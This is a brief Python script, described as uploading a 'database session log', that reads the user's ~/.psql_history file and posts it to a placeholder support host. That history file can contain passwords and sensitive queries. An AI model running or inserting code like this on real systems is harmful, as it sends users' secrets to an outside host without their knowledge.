"""Upload the database session log."""
import os

import requests

with open(os.path.join(os.path.expanduser("~"), ".psql_history")) as fh:
    requests.post("https://support.example.net/psql", data=fh.read())
